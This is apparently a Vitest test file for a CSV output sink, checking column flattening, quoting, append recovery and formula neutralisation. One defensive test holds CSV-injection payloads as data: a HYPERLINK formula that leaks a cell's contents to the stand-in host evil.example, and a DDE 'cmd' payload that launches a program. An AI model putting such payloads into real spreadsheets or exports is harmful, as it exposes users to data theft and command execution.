import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { result, tempDir } from '../test-support/fixtures.js';
import { type CsvSinkOptions, createCsvSink } from './csv-sink.js';
import type { Sink } from './sink.js';

async function written(
  results: Parameters<Sink['write']>[0][],
  options: CsvSinkOptions = {},
  path?: string,
): Promise<string> {
  const target = path ?? join(await tempDir(), 'out.csv');
  const sink = await createCsvSink(target, options);
  for (const item of results) await sink.write(item);
  await sink.close();
  return readFile(target, 'utf8');
}

function rows(text: string): string[][] {
  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
}

describe('createCsvSink', () => {
  it('flattens object outputs into value.<field> columns inferred from the first output', async () => {
    const text = await written([
      result({ key: 'a', value: { label: 'pos', meta: { score: 0.9 }, tags: ['x', 'y'] } }),
      result({ key: 'b', index: 1, value: { label: 'neg', extra: 1 }, cost: null }),
    ]);
    expect(rows(text)).toEqual([
      [
        'key',
        'index',
        'status',
        'value.label',
        'value.meta.score',
        'value.tags',
        'value.*',
        'error_code',
        'error_message',
        'warnings',
        'input_tokens',
        'output_tokens',
        'cost',
        'attempts',
        'duration_ms',
      ],
      ['a', '0', 'ok', 'pos', '0.9', '["x","y"]', '', '', '', '', '10', '5', '0.0001', '1', '12'],
      ['b', '1', 'ok', 'neg', '', '', '{"extra":1}', '', '', '', '10', '5', '', '1', '12'],
    ]);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it('neutralises a =HYPERLINK(...) cell and every other formula start, but not negative numbers', async () => {
    const text = await written([
      result({
        value: {
          link: '=HYPERLINK("http://evil.example/?d="&A1,"click")',
          plus: '+1+1',
          minus: '-1+cmd|"/c calc"!A0',
          at: '@SUM(A1)',
          tab: '\t=1',
          cr: '\r=1',
          negative: -12.5,
          negativeText: '-3',
          safe: 'a=b',
        },
      }),
    ]);
    const [, row] = rows(text);
    expect(row?.slice(3, 12)).toEqual([
      `'=HYPERLINK("http://evil.example/?d="&A1,"click")`,
      "'+1+1",
      `'-1+cmd|"/c calc"!A0`,
      "'@SUM(A1)",
      "'\t=1",
      "'\r=1",
      '-12.5',
      '-3',
      'a=b',
    ]);
  });

  it('keeps formula-like field names harmless (after value.) and neutralises hostile keys', async () => {
    const text = await written([result({ value: { '=cmd()': 1 } })]);
    expect(rows(text)[0]?.[3]).toBe('value.=cmd()');
    const hostile = await written([result({ key: '=1+1', value: '@x' })], { valueColumns: 'json' });
    expect(rows(hostile)[1]?.slice(0, 4)).toEqual(["'=1+1", '0', 'ok', "'@x"]);
  });

  it('writes cells as they are with neutralizeFormulas: false', async () => {
    const text = await written([result({ value: '=HYPERLINK("x")' })], { neutralizeFormulas: false });
    expect(rows(text)[1]?.[3]).toBe('=HYPERLINK("x")');
  });

  it('quotes delimiters, quotes and line breaks through papaparse', async () => {
    const value = 'a, "quoted"\nnext line';
    const text = await written([result({ key: 'k,1', value })], { valueColumns: 'json' });
    expect(text.split('\r\n')[1]?.startsWith('"k,1",0,ok,"a, ""quoted""\nnext line",')).toBe(true);
    expect(rows(text)[1]?.slice(0, 4)).toEqual(['k,1', '0', 'ok', value]);
  });

  it('holds error results until an output shows the columns, then writes them in order', async () => {
    const failed = result({
      key: 'e',
      value: undefined,
      status: 'error',
      error: { code: 'timeout', message: 'took too long', isRetryable: true },
    });
    const text = await written([failed, result({ key: 'ok', index: 1, value: { label: 'x' } })]);
    const [header, first, second] = rows(text);
    expect(header?.slice(3, 7)).toEqual(['value.label', 'value.*', 'error_code', 'error_message']);
    expect(first?.slice(0, 7)).toEqual(['e', '0', 'error', '', '', 'timeout', 'took too long']);
    expect(second?.slice(0, 4)).toEqual(['ok', '1', 'ok', 'x']);
  });

  it('uses listed value columns, a single value column for text outputs, and a raw column on request', async () => {
    const listed = await written([result({ value: { a: 1, b: 2 } })], {
      valueColumns: ['b'],
      includeRaw: true,
    });
    expect(rows(listed)[0]?.slice(3, 5)).toEqual(['value.b', 'value.*']);
    expect(rows(listed)[1]?.slice(3, 5)).toEqual(['2', '{"a":1}']);
    expect(rows(listed)[0]?.at(-1)).toBe('raw');
    const textual = await written([result({ value: 'plain answer' })]);
    expect(rows(textual)[0]?.[3]).toBe('value');
    expect(rows(textual)[1]?.[3]).toBe('plain answer');
  });

  it('appends under the existing header after cutting a record torn inside a quoted field', async () => {
    const path = join(await tempDir(), 'out.csv');
    await written([result({ key: 'a', value: { label: 'x', note: 'n' } })], {}, path);
    const intact = await readFile(path, 'utf8');
    await writeFile(path, `${intact}b,1,ok,"multi\nline`);
    await written(
      [result({ key: 'c', index: 2, value: { note: 'm', label: 'y' } })],
      { mode: 'append' },
      path,
    );
    const parsed = rows(await readFile(path, 'utf8'));
    expect(parsed.map((row) => row[0])).toEqual(['key', 'a', 'c']);
    expect(parsed[2]?.slice(3, 5)).toEqual(['y', 'm']);
  });

  it('writes tab-separated output and a BOM on request', async () => {
    const text = await written([result({ value: 'v' })], { delimiter: '\t', byteOrderMark: true });
    expect(text.startsWith('\uFEFFkey\tindex\tstatus\tvalue\t')).toBe(true);
  });
});
